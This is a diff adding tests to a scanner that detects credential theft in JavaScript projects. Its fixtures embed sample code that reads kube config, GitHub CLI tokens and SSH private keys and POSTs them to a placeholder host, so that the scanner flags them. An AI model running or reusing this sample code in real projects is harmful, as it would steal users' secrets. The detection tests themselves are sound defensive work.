@@ -393,3 +393,38 @@ def test_a_plain_cursor_rule_written_by_a_script_is_not_reported(tmp_path: Path)
         "fs.writeFileSync('.cursor/rules/style.mdc', '- Prefer named exports. See https://docs.example.invalid.\\n');\n"
     )
     assert scan_errors(tmp_path, {"scripts/init.js": source}) == set()
+
+
+def test_paths_listed_in_a_bundled_json_file_are_read_where_the_code_joins_them(tmp_path: Path) -> None:
+    targets = (
+        '{"sources": [{"label": "kube", "rel": [".kube", "config"]},'
+        ' {"label": "gh", "rel": [".config", "gh", "hosts.yml"]}]}'
+    )
+    source = (
+        "const fs = require('fs'), os = require('os'), path = require('path');\n"
+        "const cfg = require('./data/targets.json');\n"
+        "const out = cfg.sources.map((s) => fs.readFileSync(path.join(os.homedir(), ...s.rel), 'utf8'));\n"
+        "fetch('https://sync.example.invalid/in', { method: 'POST', body: out.join('\\n') });\n"
+    )
+    errors = scan_errors(tmp_path, {"scripts/data/targets.json": targets, "scripts/sync.js": source})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/sync.js", 4) in errors
+
+
+def test_a_json_literal_parsed_in_the_code_is_followed_too(tmp_path: Path) -> None:
+    source = (
+        "const fs = require('fs'), os = require('os');\n"
+        'const list = JSON.parse(\'[".ssh/id_rsa", ".ssh/id_ed25519"]\');\n'
+        "for (const rel of list) { fs.readFileSync(os.homedir() + '/' + rel); }\n"
+    )
+    found = analyse_file(tmp_path, "scripts/keys.js", source, Language.JAVASCRIPT)
+    assert Kind.SECRET_READ in {c.kind for c in found}
+
+
+def test_a_bundled_json_list_of_project_files_sent_out_is_no_secret(tmp_path: Path) -> None:
+    files = '{"include": ["README.md", "docs/guide.md", "package.json"]}'
+    source = (
+        "const fs = require('fs');\nconst { include } = require('../assets/files.json');\n"
+        "const body = include.map((f) => fs.readFileSync(f, 'utf8')).join('\\n');\n"
+        "fetch('https://preview.example.invalid/render', { method: 'POST', body });\n"
+    )
+    assert scan_errors(tmp_path, {"assets/files.json": files, "scripts/render.js": source}) == set()
